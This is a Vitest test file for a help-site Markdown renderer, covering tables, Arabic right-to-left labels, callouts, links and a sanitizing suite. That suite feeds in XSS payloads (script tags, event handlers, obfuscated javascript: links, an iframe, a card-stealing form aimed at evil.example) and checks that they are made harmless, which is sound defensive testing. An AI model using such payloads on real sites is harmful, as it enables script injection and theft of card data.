import { describe, expect, it } from 'vitest';
import { calloutKinds, readingMinutes, renderMarkdown, type MarkdownLabels } from '@/lib/content/markdown';

/** Labels of our own, so these tests do not change when the dictionary's wording does. */
const labels: MarkdownLabels = {
  callout: { NOTE: 'Note label', TIP: 'Tip label', IMPORTANT: 'Important label', WARNING: 'Warning label', CAUTION: 'Caution label' },
  opensInNewTab: '(new tab)',
  scrollableTable: 'Scrollable table',
};

const render = (source: string) => renderMarkdown(source, labels);
const html = (source: string) => render(source).html;

describe('renderMarkdown', () => {
  it('renders GFM tables inside a focusable, labelled scrolling region', () => {
    const output = html('| Message | Meaning |\n|---|---|\n| NOT CAPTURED | Refused |\n');
    expect(output).toMatch(
      /^<div class="table-scroll" tabindex="0" role="region" aria-label="Scrollable table"><table>[\s\S]*<th>Message<\/th>[\s\S]*<td data-label="Message"><span class="nowrap">NOT CAPTURED<\/span><\/td>[\s\S]*<\/table><\/div>$/,
    );
  });

  it('labels every body cell with its column header, so a row can be read as a card on a phone', () => {
    const output = html('| Message | What it means | What to do |\n|---|---|---|\n| NOT CAPTURED | Refused | Call your bank |\n| CANCELED | Cancelled | Start again |\n');
    expect(output).toContain('<th>Message</th>');
    expect(output).not.toMatch(/<th[^>]*data-label/);
    expect(output).toContain('<td data-label="Message"><span class="nowrap">NOT CAPTURED</span></td>');
    expect(output).toContain('<td data-label="What it means">Refused</td>');
    expect(output).toContain('<td data-label="What to do">Call your bank</td>');
    expect(output).toContain('<td data-label="What to do">Start again</td>');
  });

  it('labels Arabic cells with the Arabic headers', () => {
    const output = renderMarkdown('| الرسالة | معناها |\n|---|---|\n| NOT CAPTURED | لم يوافق بنكك |\n', { ...labels, dir: 'rtl' }).html;
    expect(output).toContain('<td data-label="الرسالة"><span class="nowrap" dir="ltr">NOT CAPTURED</span></td>');
    expect(output).toContain('<td data-label="معناها">لم يوافق بنكك</td>');
  });

  it('keeps each short message name in a first cell on one line, and lets a long one wrap', () => {
    const output = html('| Message | Meaning |\n|---|---|\n| card expired / invalid card number | Refused |\n| payment in progress in another window | Twice |\n');
    expect(output).toContain('<td data-label="Message"><span class="nowrap">card expired</span> / <span class="nowrap">invalid card number</span></td>');
    expect(output).toContain('<td data-label="Message">payment in progress in another window</td>');
  });

  it('in Arabic, makes an emphasised Latin name its own left-to-right run, kept on one line when short', () => {
    const rtl = (source: string) => renderMarkdown(source, { ...labels, dir: 'rtl' }).html;
    expect(rtl('ظهرت رسالة **NOT CAPTURED** على الصفحة.')).toBe('<p>ظهرت رسالة <strong dir="ltr" class="nowrap">NOT CAPTURED</strong> على الصفحة.</p>');
    expect(rtl('اكتب `HOST TIMEOUT` كما هي.')).toContain('<code dir="ltr" class="nowrap keep-whole">HOST TIMEOUT</code>');
    expect(rtl('اختر **payment in progress in another window** هنا.')).toContain('<strong dir="ltr">payment in progress in another window</strong>');
    expect(rtl('**رسالة NOT CAPTURED**')).toContain('<strong>رسالة <span class="keep-whole" dir="ltr">NOT CAPTURED</span></strong>');
    expect(html('The message **NOT CAPTURED** shows.')).toContain('<strong><span class="keep-whole" dir="ltr">NOT CAPTURED</span></strong>');
  });

  it('leaves a first cell holding markup as it is, and an author cannot forge a label', () => {
    const output = html('| Message | Meaning |\n|---|---|\n| **NOT CAPTURED** | <span data-label="x">Refused</span> |\n');
    expect(output).toContain('<td data-label="Message"><strong><span class="keep-whole" dir="ltr">NOT CAPTURED</span></strong></td>');
    expect(output).toContain('<td data-label="Meaning"><span>Refused</span></td>');
  });

  it('renders lists, emphasis and GFM strikethrough', () => {
    const output = html('1. First\n2. **Second**\n\n- one\n- ~~two~~\n');
    expect(output).toContain('<ol>\n<li>First</li>\n<li><strong>Second</strong></li>\n</ol>');
    expect(output).toContain('<ul>\n<li>one</li>\n<li><del>two</del></li>\n</ul>');
  });

  it('gives headings unique ids and returns them for the table of contents', () => {
    const result = render('Intro text.\n\n## Why it happens\n\nBecause.\n\n### The bank said no\n\nCall it.\n\n## Why it happens\n\nAgain.\n\n#### Deep\n');
    expect(result.html).toContain('<h2 id="why-it-happens">Why it happens</h2>');
    expect(result.html).toContain('<h3 id="the-bank-said-no">The bank said no</h3>');
    expect(result.html).toContain('<h2 id="why-it-happens-1">Why it happens</h2>');
    expect(result.headings).toEqual([
      { depth: 2, id: 'why-it-happens', text: 'Why it happens' },
      { depth: 3, id: 'the-bank-said-no', text: 'The bank said no' },
      { depth: 2, id: 'why-it-happens-1', text: 'Why it happens' },
    ]);
  });

  it('splits the text into sections under each heading, for search', () => {
    const result = render('Intro   text.\n\n## Why it *happens*\n\nBecause.\n\n- a\n- b\n\n### Next\n\nCall.\n');
    expect(result.sections).toEqual([
      { id: '', heading: '', text: 'Intro text.' },
      { id: 'why-it-happens', heading: 'Why it happens', text: 'Because. a b' },
      { id: 'next', heading: 'Next', text: 'Call.' },
    ]);
  });

  it('leaves out an empty intro section and counts words', () => {
    const result = render('## One two\n\nthree four five\n');
    expect(result.sections).toEqual([{ id: 'one-two', heading: 'One two', text: 'three four five' }]);
    expect(result.wordCount).toBe(5);
  });

  it.each(calloutKinds)('turns a > [!%s] blockquote into a labelled callout', (kind) => {
    const output = html(`> [!${kind}]\n> Never share your PIN.\n`);
    expect(output).toBe(
      `<div class="callout callout-${kind.toLowerCase()}"><p class="callout-title">${labels.callout[kind]}</p>\n<p>Never share your PIN.</p>\n</div>`,
    );
  });

  it('keeps text written on the marker line of a callout', () => {
    const output = html('> [!NOTE] Good to know\n> More text.\n');
    expect(output).toContain('<p class="callout-title">Note label</p>');
    expect(output).toContain('<p>Good to know\nMore text.</p>');
    expect(output).not.toContain('[!NOTE]');
  });

  it('keeps a plain blockquote, and an unknown marker, as a blockquote', () => {
    expect(html('> Just a quote.\n')).toBe('<blockquote>\n<p>Just a quote.</p>\n</blockquote>');
    expect(html('> [!DANGER]\n> Not a kind.\n')).toBe('<blockquote>\n<p>[!DANGER]\nNot a kind.</p>\n</blockquote>');
  });

  it('opens external links in a new tab, safely, and says so to screen readers', () => {
    expect(html('[Amazon help](https://www.amazon.com/help)')).toBe(
      '<p><a href="https://www.amazon.com/help" target="_blank" rel="noopener noreferrer external" class="external-link">Amazon help<span class="sr-only"> (new tab)</span></a></p>',
    );
    expect(html('<a href="http://example.com">x</a>')).toContain('target="_blank" rel="noopener noreferrer external"');
  });

  it('leaves internal links, anchors and mailto links as they are', () => {
    expect(html('[declined](/en/articles/transaction-declined#why) [up](#top) [mail](mailto:help@example.com)')).toBe(
      '<p><a href="/en/articles/transaction-declined#why">declined</a> <a href="#top">up</a> <a href="mailto:help@example.com">mail</a></p>',
    );
  });

  it("gives links to the site's pages their full address for print when the site's address is given", () => {
    const output = renderMarkdown('[declined](/en/articles/transaction-declined#why) [up](#top) [amazon](https://www.amazon.com/help) [other](//evil.example/x)', {
      ...labels,
      siteUrl: 'https://help.example',
    }).html;
    expect(output).toContain('<a href="/en/articles/transaction-declined#why" data-address="https://help.example/en/articles/transaction-declined#why">declined</a>');
    expect(output).toContain('<a href="#top">up</a>');
    expect(output).not.toMatch(/href="https:\/\/www\.amazon\.com\/help"[^>]*data-address/);
    expect(output).not.toContain('data-address="https://help.example//');
  });

  it("gives the links the renderer adds itself (a message section's contact link) their full address too", () => {
    const output = renderMarkdown('### NOT CAPTURED\n\nRefused.\n', {
      ...labels,
      siteUrl: 'https://help.example',
      messages: ['NOT CAPTURED'],
      messageHelp: { step: () => ({ href: '/en/contact/knet-message/not-captured', noteKnetIds: false }), noteKnetIds: 'Note', stillStuck: 'Stuck?', contactLink: 'Who' },
    }).html;
    expect(output).toContain('<a href="/en/contact/knet-message/not-captured" data-address="https://help.example/en/contact/knet-message/not-captured">Who</a>');
  });

  it('renders a "# " heading as h2 and reports its line', () => {
    const result = render('Intro.\n\n# Big title\n\nText.\n');
    expect(result.html).toContain('<h2 id="big-title">Big title</h2>');
    expect(result.html).not.toContain('<h1');
    expect(result.h1Lines).toEqual([3]);
  });

  it('collects links and images with their lines, before anything is removed', () => {
    const result = render('[a](/en/articles/x)\n\n![A flow](/illustrations/x.svg)\n\n[bad](javascript:alert(1))\n');
    expect(result.links).toEqual([
      { url: '/en/articles/x', line: 1 },
      { url: 'javascript:alert(1)', line: 5 },
    ]);
    expect(result.images).toEqual([{ url: '/illustrations/x.svg', alt: 'A flow', line: 3 }]);
  });

  it('keeps images from this site', () => {
    expect(html('![A flow](/illustrations/x.svg)')).toBe('<p><img src="/illustrations/x.svg" alt="A flow"></p>');
  });
});

describe('renderMarkdown sanitizing', () => {
  const dangerous = /<script|onerror|onload|onclick|onmouseover|javascript:|vbscript:|<iframe|<style|<object|<embed|<form|srcdoc|style=/i;

  it.each([
    ['a script tag', '<script>alert(1)</script>'],
    ['a script tag inside a paragraph', 'Text <script>alert(1)</script> more.'],
    ['an image with onerror', '<img src=x onerror=alert(1)>'],
    ['a raw javascript: link', '<a href="javascript:alert(1)">click</a>'],
    ['a Markdown javascript: link', '[click](javascript:alert(1))'],
    ['a mixed-case javascript: link', '<a href="JaVaScRiPt:alert(1)">click</a>'],
    ['an entity-encoded javascript: link', '<a href="javascript&#58;alert(1)">click</a>'],
    ['an entity-encoded Markdown javascript: link', '[click](javascript&#58;alert(1))'],
    ['a javascript: link hidden by a tab', '<a href="jav&#x09;ascript:alert(1)">click</a>'],
    ['a vbscript: link', '<a href="vbscript:msgbox(1)">click</a>'],
    ['an iframe', '<iframe src="https://evil.example/" srcdoc="<script>alert(1)</script>"></iframe>'],
    ['a style block', '<style>body { display: none }</style>'],
    ['an svg with onload', '<svg onload="alert(1)"><circle r="5"/></svg>'],
    ['a div with onclick', '<div onclick="alert(1)">Click me</div>'],
    ['a link with onmouseover', '<a href="/en" onmouseover="alert(1)">home</a>'],
    ['a form with inputs', '<form action="https://evil.example/steal"><input type="text" name="card"><button>Pay</button></form>'],
    ['a style attribute', '<p style="position:fixed;top:0">Fake KNET page</p>'],
    ['an object and an embed', '<object data="x.swf"></object><embed src="x.swf">'],
  ])('makes %s harmless', (_name, source) => {
    const output = html(`Before.\n\n${source}\n\nAfter.\n`);
    expect(output).not.toMatch(dangerous);
    expect(output).toContain('<p>Before.</p>');
    expect(output).toContain('<p>After.</p>');
  });

  it('keeps the text of removed elements only where it is the reader\'s text', () => {
    expect(html('<div onclick="alert(1)">Click me</div>')).toBe('<div>Click me</div>');
    expect(html('<p style="color:red">Red</p>')).toBe('<p>Red</p>');
    expect(html('<a href="javascript:alert(1)">click</a>')).toBe('<p><a>click</a></p>');
    expect(html('Text <script>alert(1)</script> more.')).not.toContain('alert');
    const afterStyle = html('<style>body { display: none }</style>\n\nAfter.');
    expect(afterStyle).not.toContain('display');
    expect(afterStyle.trim()).toBe('<p>After.</p>');
  });

  it('keeps a safe image but drops its event handler', () => {
    expect(html('<img src="/illustrations/x.svg" alt="A flow" onerror="alert(1)">')).toBe('<img src="/illustrations/x.svg" alt="A flow">');
  });

  it.each([
    ['a Markdown image', '![A photo](https://evil.example/x.png)'],
    ['a raw image', '<img src="https://evil.example/x.png" alt="A photo">'],
    ['a protocol-relative image', '![A photo](//evil.example/x.png)'],
    ['a raw protocol-relative image', '<img src="//evil.example/x.png" alt="A photo">'],
    ['an image behind a backslash', '<img src="/\\evil.example/x.png" alt="A photo">'],
    ['an image behind an encoded tab', '<img src="/&#x09;/evil.example/x.png" alt="A photo">'],
    ['a data: image', '<img src="data:image/svg+xml,<svg onload=alert(1)>" alt="A photo">'],
  ])('removes the address of %s from another site', (_name, source) => {
    const output = html(source);
    expect(output).toContain('alt="A photo"');
    expect(output).not.toContain('src=');
    expect(output).not.toContain('evil.example');
  });

  it.each([
    ['another site', '<picture><source srcset="https://evil.example/x.png"><img src="/illustrations/x.svg" alt="A photo"></picture>'],
    ['another site among site paths', '<picture><source srcset="/illustrations/x.svg 1x, https://evil.example/x.png 2x"><img src="/illustrations/x.svg" alt="A photo"></picture>'],
    ['another site, protocol-relative', '<picture><source srcset="//evil.example/x.png"><img src="/illustrations/x.svg" alt="A photo"></picture>'],
    ['a data: address', '<picture><source srcset="data:image/png;base64,iVBORw0KGgo="><img src="/illustrations/x.svg" alt="A photo"></picture>'],
  ])("drops a picture source's srcset that points to %s", (_name, source) => {
    const output = html(source);
    expect(output).toContain('<img src="/illustrations/x.svg" alt="A photo">');
    expect(output).not.toContain('srcset');
    expect(output).not.toMatch(/evil\.example|data:/);
  });

  it("keeps a picture source's srcset of this site's images", () => {
    expect(html('<picture><source srcset="/illustrations/x-dark.svg 1x, /illustrations/x-dark@2x.svg 2x"><img src="/illustrations/x.svg" alt="A photo"></picture>')).toContain(
      'srcset="/illustrations/x-dark.svg 1x, /illustrations/x-dark@2x.svg 2x"',
    );
  });

  it('prefixes author-written ids so they cannot clobber the site\'s ids', () => {
    const output = html('<a id="main-content" href="/en">x</a> <span name="search">y</span>\n\n## Main content\n');
    expect(output).toContain('id="user-content-main-content"');
    expect(output).toContain('name="user-content-search"');
    expect(output).toContain('<h2 id="main-content">Main content</h2>');
  });

  it('prefixes the id of an author-written heading and lists it under that id', () => {
    const result = render('<h2 id="top">Forged</h2>\n');
    expect(result.html).toBe('<h2 id="user-content-top">Forged</h2>');
    expect(result.headings).toEqual([{ depth: 2, id: 'user-content-top', text: 'Forged' }]);
  });

  it('strips author-written classes, so nothing can pose as a callout or screen-reader text', () => {
    const output = html(
      '<div class="callout callout-warning"><p class="callout-title">Warning</p>Send your PIN</div>\n\n<span class="sr-only">hidden</span>\n',
    );
    expect(output).not.toContain('class=');
    expect(output).toContain('<div><p>Warning</p>Send your PIN</div>');
  });

  it('does not turn author-written link attributes into the site\'s own', () => {
    const output = html('<a href="/en" target="_top" rel="opener">home</a>');
    expect(output).toBe('<p><a href="/en">home</a></p>');
  });
});

describe('readingMinutes', () => {
  it('counts about 200 words a minute, never less than one', () => {
    expect(readingMinutes(0)).toBe(1);
    expect(readingMinutes(299)).toBe(1);
    expect(readingMinutes(300)).toBe(2);
    expect(readingMinutes(1000)).toBe(5);
  });
});
